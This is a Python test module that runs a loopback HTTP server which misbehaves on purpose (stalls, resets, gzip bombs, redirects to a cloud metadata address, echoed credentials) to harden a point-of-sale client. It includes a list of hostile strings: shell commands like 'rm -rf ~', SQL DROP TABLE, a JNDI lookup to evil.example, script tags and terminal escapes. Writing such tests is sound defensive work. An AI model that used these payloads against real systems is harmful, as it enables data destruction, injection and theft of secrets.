"""Hostile parts for tests: a server that misbehaves, and texts that do harm.

The server is an HTTP server on a raw socket.

    with hostile_server(BEHAVIOURS["drip_headers"]) as server:
        with Till.connect("corner", base_url=server.url, limits=SHORT, ...) as till:
            with pytest.raises(PosError):
                till.check()
    assert server.count("POST", "/orders") <= 1

A behaviour is a function of one `Incoming` request: it writes whatever bytes it likes. With an
`upstream`, such as a simulator's address, requests pass through to it, and only those that match
`only` meet the behaviour, before or after the platform has carried them out. All of it runs in
threads of this process, on the loopback, and ends with the block.
"""

from __future__ import annotations

import contextlib
import gzip
import http.client
import json
import re
import socket
import struct
import threading
from collections.abc import Callable, Generator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import TypeAlias
from urllib.parse import urlsplit

__all__ = [
    "BEHAVIOURS",
    "LEGITIMATE",
    "POISONS",
    "Behaviour",
    "HostileServer",
    "Incoming",
    "answer",
    "echo",
    "hostile_server",
    "poisoned",
    "refusal",
]

DRIP = 0.02
"""Seconds between two pieces of a dripped answer."""

LONGEST = 60.0
"""Seconds after which a behaviour that never ends gives up.

So no test hangs for ever.
"""

POISONS: Mapping[str, str] = {
    "nul": "a\x00b",
    "forged_log_line": "x\n2026-11-27 12:00:00 INFO order_received id=forged",
    "carriage_return": "100% done\rFAILED",
    "drawer_kick": "note\x1bp\x00\x19\xfa",
    "clear_screen": "\x1b[2J\x1b[H",
    "window_title": "\x1b]0;owned\x07",
    "c1_control": "\x9b2J\x85next",
    "backspace": "rm \x08\x08\x08ls",
    "bidi_override": "invoice\u202efdp.exe",
    "bidi_isolate": "\u2066admin\u2069\u2067user\u2069",
    "bidi_mark": "a\u200fb\u061cc",
    "line_separator": "one\u2028two\u2029three",
    "zero_width": "pay\u200bpal\u2060\ufeff",
    "joiner_in_latin": "pay\u200dpal",
    "tag_characters": "ok\U000e0069\U000e0067\U000e006e",
    "lone_surrogate": "half \ud83d emoji",
    "noncharacter": "end\ufffe\uffff",
    "markup": "[bold red]paid[/] [link=http://evil.example]here[/link]",
    "html": "<script>alert(1)</script>",
    "shell": "$(reboot); `id` && rm -rf ~ #",
    "shell_quote": 'it\'s "quoted" \\',
    "shell_option": "--help",
    "format": "%s %n %(x)s {0.__class__} ${jndi:ldap://evil.example/}",
    "sql": "'; DROP TABLE tillpost_orders; --",
    "stacked_marks": "Z" + "\u0335\u0336\u0337" * 300,
    "long": "A" * 100_000,
    "digits": "9" * 10_000,
}
"""Texts that do harm where they are taken as they come, by what they attack."""

LEGITIMATE: Mapping[str, str] = {
    "accents": "Zoë Müller-Łukasiewicz",
    "decomposed": "Nguye\u0302\u0303n",
    "arabic": "محمد علي",
    "hebrew": "שרה כהן",
    "persian_with_joiner": "می\u200cخواهم",
    "hindi_with_joiner": "क्\u200dष",
    "thai": "สมชาย",
    "chinese": "王小明",
    "japanese": "山田　太郎",
    "emoji_family": "👨\u200d👩\u200d👧\u200d👦",
    "emoji_flag": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "emoji_skin_tone": "🧑🏽\u200d🍳",
    "emoji_heart": "❤\ufe0f\u200d🔥",
}
"""Texts that people really write.

What makes text safe must leave these as they are.
"""


@dataclass(eq=False)
class Incoming:
    """One request that the server received, and the connection to answer it on.

    Attributes:
        method: The method.
        target: The path and query, as they were sent.
        headers: The headers, with names in lower case.
        body: The body.
        carried_out: The platform's real answer, if an upstream carried the request out first.
        connection: The connection that it came on.
        stopped: Set when the server stops.
    """

    method: str
    target: str
    headers: Mapping[str, str]
    body: bytes
    carried_out: bytes | None = None
    connection: socket.socket | None = field(default=None, repr=False)
    stopped: threading.Event = field(default_factory=threading.Event, repr=False)

    def send(self, data: bytes) -> None:
        """Write bytes to the client."""
        assert self.connection
        self.connection.sendall(data)

    def drip(self, piece: Callable[[int], bytes]) -> None:
        """Write `piece(0)`, `piece(1)` and so on slowly, until the client has had enough."""
        for number in range(int(LONGEST / DRIP)):
            if self.stopped.wait(DRIP):
                return
            self.send(piece(number))

    def hold(self) -> None:
        """Keep the connection open and silent, until the client closes it."""
        assert self.connection
        self.connection.settimeout(DRIP)
        for _ in range(int(LONGEST / DRIP)):
            if self.stopped.is_set():
                return
            with contextlib.suppress(TimeoutError):
                if not self.connection.recv(4096):
                    return

    def reset(self) -> None:
        """Break the connection with a TCP reset."""
        assert self.connection
        linger = struct.pack("ii", 1, 0)
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        self.connection.close()


Behaviour: TypeAlias = Callable[[Incoming], None]
"""Answers one request, in whatever way. The connection is closed when it returns."""


# ---------------------------------------------------------------------------- behaviours


def answer(
    body: bytes | Callable[[Incoming], bytes] = b"",
    status: int = 200,
    *,
    reason: str = "OK",
    **headers: str,
) -> Behaviour:
    """Return a behaviour that sends one well-formed answer.

    Args:
        body: The body, or a function that makes it of the request: with another order's, for one.
        status: The status.
        reason: The text after it.
        **headers: Headers; underscores become hyphens. By default the content is JSON.
    """

    def behave(incoming: Incoming) -> None:
        content = body(incoming) if callable(body) else body
        incoming.send(_head(status, reason, len(content), headers) + content)

    return behave


def refusal(detail: str, status: int = 400) -> Behaviour:
    """Return a behaviour that refuses.

    It has a text in each field that platforms usually have.
    """
    names = "code kind type title status detail message error error_description category field"
    problem: dict[str, object] = dict.fromkeys(names.split(), detail)
    problem["errors"] = [dict(problem)]
    return answer(json.dumps(problem).encode(), status)


def poisoned(poison: str) -> Behaviour:
    """Return a behaviour that refuses with one of `POISONS`, by its name."""
    return refusal(POISONS[poison])


def echo(status: int = 400, *, escaped: bool = False) -> Behaviour:
    """Return a behaviour that sends the request back, its credentials included.

    They are in the body and in a header.

    Args:
        status: The status.
        escaped: Whether each character of the body's texts is a JSON escape, such as `\\u0061`.
    """

    def behave(incoming: Incoming) -> None:
        sent = " ".join((incoming.target, *incoming.headers.values()))
        text = json.dumps(f"{sent} {incoming.body.decode('utf-8', 'replace')}")
        if escaped:
            characters = "".join(f"\\u{ord(each):04x}" for each in sent)
            text = f'"{characters}"'
        body = f'{{"detail": {text}, "message": {text}, "error_description": {text}}}'.encode()
        tail = {"x_request_id": incoming.headers.get("authorization", "")}
        incoming.send(_head(status, "Echo", len(body), tail) + body)

    return behave


def _head(status: int, reason: str, length: int, headers: Mapping[str, str]) -> bytes:
    shown = {"content_type": "application/json", "content_length": str(length), **headers}
    lines = [f"HTTP/1.1 {status} {reason}"]
    for name, value in shown.items():
        header = name.replace("_", "-")
        lines.append(f"{header}: {value}")
    lines.append("connection: close")
    head = "\r\n".join(lines) + "\r\n\r\n"
    return head.encode("latin-1")


_CHUNKED = (
    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
)


def _silence(incoming: Incoming) -> None:
    incoming.hold()


def _reset(incoming: Incoming) -> None:
    incoming.reset()


def _close(incoming: Incoming) -> None:
    """Close the connection without an answer."""


def _drip_headers(incoming: Incoming) -> None:
    incoming.send(b"HTTP/1.1 200 OK\r\n")
    incoming.drip(lambda number: b"x-%d: y\r\n" % number)


def _drip_body(incoming: Incoming) -> None:
    incoming.send(b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n")
    incoming.drip(lambda _: b" ")


def _drip_chunks(incoming: Incoming) -> None:
    incoming.send(_CHUNKED)
    incoming.drip(lambda _: b"1\r\n \r\n")


def _drip_trailers(incoming: Incoming) -> None:
    incoming.send(_CHUNKED + b"2\r\n{}\r\n0\r\n")
    incoming.drip(lambda number: b"x-%d: y\r\n" % number)


def _endless_informational(incoming: Incoming) -> None:
    incoming.drip(lambda _: b"HTTP/1.1 103 Early Hints\r\n\r\n")


def _truncated_body(incoming: Incoming) -> None:
    incoming.send(b'HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n{"id": "1"')


def _truncated_head(incoming: Incoming) -> None:
    incoming.send(b"HTTP/1.1 200 OK\r\nContent-Le")


def _not_http(incoming: Incoming) -> None:
    incoming.send(b"SSH-2.0-OpenSSH_9.6\r\n\x00\xff\r\n\r\n")


def _two_lengths(incoming: Incoming) -> None:
    incoming.send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 5\r\n\r\n{}abc")


def _second_answer(incoming: Incoming) -> None:
    """Send an answer, and one more that nobody has asked for.

    The connection stays open.
    """
    head = (
        b"HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
    )
    incoming.send(head * 2)
    incoming.hold()


def _huge_header(incoming: Incoming) -> None:
    incoming.send(b"HTTP/1.1 200 OK\r\nX-Huge: " + b"x" * 2_000_000 + b"\r\n\r\n")


def _many_headers(incoming: Incoming) -> None:
    lines = b"".join(b"X-%d: y\r\n" % number for number in range(50_000))
    incoming.send(b"HTTP/1.1 200 OK\r\n" + lines + b"Content-Length: 2\r\n\r\n{}")


_ZEROS = b"\0" * 50_000_000
_JSON = "application/json"
_HTML = b"<!doctype html><title>Blocked</title><p>Access denied by your network's proxy.</p>"


def _packed(body: bytes) -> Behaviour:
    """Return a behaviour whose body is packed only when it is first needed."""

    def behave(incoming: Incoming) -> None:
        content = gzip.compress(body, 6)
        incoming.send(_head(200, "OK", len(content), {"content_encoding": "gzip"}) + content)

    return behave


BEHAVIOURS: Mapping[str, Behaviour] = {
    # Time
    "silence": _silence,
    "drip_headers": _drip_headers,
    "drip_body": _drip_body,
    "drip_chunks": _drip_chunks,
    "drip_trailers": _drip_trailers,
    "endless_informational": _endless_informational,
    # The connection
    "reset": _reset,
    "close": _close,
    "truncated_head": _truncated_head,
    "truncated_body": _truncated_body,
    "not_http": _not_http,
    "two_lengths": _two_lengths,
    "second_answer": _second_answer,
    # Size
    "huge_header": _huge_header,
    "many_headers": _many_headers,
    "long_reason": answer(b"{}", 400, reason="because " * 5_000),
    "gzip_bomb": _packed(_ZEROS),
    "gzip_wide_list": _packed(b'{"items":[' + b"1," * 8_000_000 + b"1]}"),
    "gzip_wide_object": _packed(b'{"id":"1"' + b',"a":1' * 2_700_000 + b"}"),
    "deep_json": answer(b'{"items":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "wide_errors": answer(b'{"errors":[' + b"1," * 200_000 + b"1]}", 400),
    "long_text": refusal("token modifier product 1 " * 2_000),
    # Content
    "empty": answer(),
    "null": answer(b"null"),
    "empty_object": answer(b"{}"),
    "empty_list": answer(b"[]"),
    "not_utf8": answer(b'{"id": "\xff\xfe"}'),
    "wrong_type": answer(b"\x89PNG\r\n\x1a\n" * 10, content_type="image/png"),
    "html_page": answer(_HTML, content_type="text/html"),
    "html_refusal": answer(_HTML, 403, content_type="text/html"),
    "long_integer": answer(b'{"id": "1", "version": %s, "total": %s}' % ((b"9" * 10_000,) * 2)),
    "infinite_float": answer(b'{"id": "1", "total": 1e999, "rate": -1e999, "price": 1e999999}'),
    "repeated_names": answer(b"{" + b'"id": "1", ' * 10_000 + b'"id": "2"}'),
    "lone_surrogates": answer(rb'{"id": "\ud800", "detail": "\udfff\ud800"}', 400),
    # Addresses
    "redirect_elsewhere": answer(b"", 302, location="http://169.254.169.254/latest/meta-data"),
    "redirect_without_host": answer(b"", 303, location="http:orders/1"),
    "redirect_to_credentials": answer(b"", 307, location="//user:password@127.0.0.2/steal"),
    "next_page_elsewhere": answer(b"[]", 200, x_next_page="@127.0.0.2:1/steal", x_pages="2"),
    # Secrets
    "echo": echo(),
    "echo_in_success": echo(200),
    "echo_escaped": echo(escaped=True),
}
"""What a server may do to a client, by name. No answer among them makes an order."""


# ---------------------------------------------------------------------------- the server


class HostileServer:
    """The server of `hostile_server`: what it received, and its address.

    Attributes:
        url: The address, as a `base_url`.
        received: The requests, in order.
        behaviour: What it does; a test may change it.
    """

    def __init__(self, behaviour: Behaviour, upstream: str, only: str, after: bool) -> None:
        self.behaviour = behaviour
        self.received: list[Incoming] = []
        self._upstream = upstream
        self._only = re.compile(only)
        self._after = after
        self.stopped = threading.Event()
        self._listener = socket.create_server(("127.0.0.1", 0), backlog=128)
        self._threads: list[threading.Thread] = []
        self._open: set[socket.socket] = set()
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"

    def count(self, method: str, path: str = "") -> int:
        """Return how many requests came with a method, and a path that matches a pattern."""
        return sum(
            1
            for incoming in tuple(self.received)
            if incoming.method == method and re.search(path, incoming.target)
        )

    def start(self) -> None:
        """Begin to accept connections."""
        self._start(self._accept)

    def stop(self) -> None:
        """Close all connections, and wait for the threads."""
        self.stopped.set()
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        for connection in tuple(self._open):
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
        for thread in self._threads:
            thread.join(10)

    def _start(self, work: Callable[..., None], *args: object) -> None:
        thread = threading.Thread(target=work, args=args, daemon=True)
        self._threads.append(thread)
        thread.start()

    def _accept(self) -> None:
        while not self.stopped.is_set():
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self._open.add(connection)
            self._start(self._serve, connection)

    def _serve(self, connection: socket.socket) -> None:
        """Answer the requests of one connection until either side closes it."""
        try:
            with connection, connection.makefile("rb") as stream:
                while not self.stopped.is_set():
                    incoming = _read_request(stream.readline, stream.read)
                    if incoming is None:
                        return
                    incoming.connection = connection
                    incoming.stopped = self.stopped
                    self.received.append(incoming)
                    if not self._answer(incoming):
                        return
        except (OSError, ValueError):
            return  # the client has had enough, as it should
        finally:
            self._open.discard(connection)

    def _answer(self, incoming: Incoming) -> bool:
        """Answer a request; return whether the connection may carry another one."""
        is_hostile = self._only.search(f"{incoming.method} {incoming.target}") is not None
        if self._upstream and (self._after or not is_hostile):
            incoming.carried_out = _forwarded(incoming, self._upstream)
        if is_hostile:
            self.behaviour(incoming)
            return False
        incoming.send(incoming.carried_out or _head(404, "Not Found", 0, {}))
        return incoming.carried_out is not None


def _read_request(readline: Callable[[], bytes], read: Callable[[int], bytes]) -> Incoming | None:
    """Read one request; None at the end of the connection."""
    first = readline().decode("latin-1").split()
    if len(first) < 2:
        return None
    headers: dict[str, str] = {}
    while line := readline().strip():
        name, _, value = line.decode("latin-1").partition(":")
        headers[name.lower()] = value.strip()
    body = read(int(headers.get("content-length", "0")))
    return Incoming(first[0], first[1], headers, body)


def _forwarded(incoming: Incoming, upstream: str) -> bytes:
    """Send a request on to the platform, and return its answer as bytes.

    They are to be sent as they are.
    """
    address = urlsplit(upstream)
    platform = http.client.HTTPConnection(str(address.hostname), address.port, timeout=30)
    try:
        hop = {"host", "connection", "accept-encoding", "content-length"}
        headers = {name: value for name, value in incoming.headers.items() if name not in hop}
        platform.request(incoming.method, incoming.target, incoming.body or None, headers)
        real = platform.getresponse()
        content = real.read()
        lines = [f"HTTP/1.1 {real.status} {real.reason}"]
        left_out = ("transfer-encoding", "connection", "content-length")
        for name, value in real.getheaders():
            if name.lower() not in left_out:
                lines.append(f"{name}: {value}")
        lines.append(f"Content-Length: {len(content)}")
        return "\r\n".join([*lines, "", ""]).encode("latin-1") + content
    finally:
        platform.close()


@contextmanager
def hostile_server(
    behaviour: Behaviour, *, upstream: str = "", only: str = "", after: bool = False
) -> Generator[HostileServer]:
    """Serve a behaviour on the loopback until the block ends.

    Args:
        behaviour: What the server does: one of `BEHAVIOURS`, or a function of your own.
        upstream: The address of a platform or simulator to which all other requests are passed on.
            Without one, other requests are answered with a 404.
        only: A pattern; only requests whose "METHOD /path" it matches meet the behaviour.
        after: Whether the upstream carries a request out before the behaviour spoils its answer.
    """
    server = HostileServer(behaviour, upstream, only, after)
    server.start()
    try:
        yield server
    finally:
        server.stop()
